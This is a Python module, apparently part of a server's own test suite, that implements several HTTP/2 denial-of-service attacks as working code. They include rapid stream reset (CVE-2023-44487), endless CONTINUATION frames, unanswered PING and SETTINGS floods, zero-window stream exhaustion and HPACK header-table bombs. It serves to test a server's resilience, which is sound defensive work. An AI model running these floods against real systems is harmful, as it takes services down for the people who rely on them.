"""Attacks by the frames of HTTP/2."""

from __future__ import annotations

import asyncio
import struct
from collections.abc import Callable, Iterator

from tests.flow.attacks.field import END_HEADERS, END_STREAM, Field, grpc_head, until_closed
from tests.flow.door import HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, frame

CONTINUATION = 9
CANCEL = struct.pack(">I", 8)


async def _flood(
    field: Field,
    pieces: Callable[[], Iterator[bytes]],
    *,
    connections: int = 20,
    settings: bytes = b"",
    reads: bool = True,
) -> None:
    """So many connections that send these pieces as fast as they are taken."""

    async def one(nth: int) -> None:
        async with field.connected(field.grpc, nth, receive=0 if reads else 4_096) as pipe:
            reader, writer = pipe
            writer.write(PREFACE + frame(SETTINGS, 0, 0, settings))
            closed = asyncio.ensure_future(until_closed(reader))
            if not reads:
                closed.cancel()
                reader._transport.pause_reading()  # type: ignore[attr-defined]
            try:
                for piece in pieces():
                    if closed.done() and reads:
                        field.counts["cut by the server"] += 1
                        return
                    writer.write(piece)
                    field.counts["KiB sent"] += len(piece) // 1024
                    await writer.drain()
                    await asyncio.sleep(0)
            finally:
                closed.cancel()

    field.begin()
    await field.crowd(connections, one)


async def rapid_reset(field: Field) -> None:
    """Streams that are opened and cancelled at once (CVE-2023-44487)."""

    def pieces() -> Iterator[bytes]:
        head = grpc_head()
        for first in range(1, 1 << 30, 200):
            yield b"".join(
                frame(HEADERS, END_HEADERS, stream, head) + frame(RST_STREAM, 0, stream, CANCEL)
                for stream in range(first, first + 200, 2)
            )

    await _flood(field, pieces)


async def continuations(field: Field) -> None:
    """A header block without an end (CVE-2024-27316 and its kin)."""

    def pieces() -> Iterator[bytes]:
        yield frame(HEADERS, 0, 1, grpc_head())
        block = (b"\0\x01x\x64" + b"y" * 100) * 150
        while True:
            yield frame(CONTINUATION, 0, 1, block)

    await _flood(field, pieces)


async def pings(field: Field) -> None:
    """Pings whose answers nobody reads (CVE-2019-9512)."""

    def pieces() -> Iterator[bytes]:
        while True:
            yield frame(PING, 0, 0, b"12345678") * 500

    await _flood(field, pieces, reads=False)


async def settings(field: Field) -> None:
    """Settings whose acknowledgements nobody reads (CVE-2019-9515)."""

    def pieces() -> Iterator[bytes]:
        while True:
            yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 500

    await _flood(field, pieces, reads=False)


async def zero_window(field: Field) -> None:
    """All streams a connection may have, each with an answer for which there is no room."""

    def pieces() -> Iterator[bytes]:
        head = b"\x83\x86\x04\x04/xyz\x01\x01x"  # an unknown path has an answer with a body
        for stream in range(1, 1 << 30, 2):
            yield frame(HEADERS, END_HEADERS | END_STREAM, stream, head)

    await _flood(field, pieces, connections=100, settings=struct.pack(">HI", 4, 0), reads=False)


async def header_bombs(field: Field) -> None:
    """A few bytes that name a long entry of the header table again and again."""

    def pieces() -> Iterator[bytes]:
        long = b"\x40\x01x\x7f\xf0\x1e" + b"y" * (127 + 0xF70)  # entry 62, about 4 KiB
        for stream in range(1, 1 << 30, 2):
            head = grpc_head(long if stream == 1 else b"") + b"\xbe" * 12_000
            yield frame(HEADERS, END_HEADERS | END_STREAM, stream, head)

    await _flood(field, pieces)
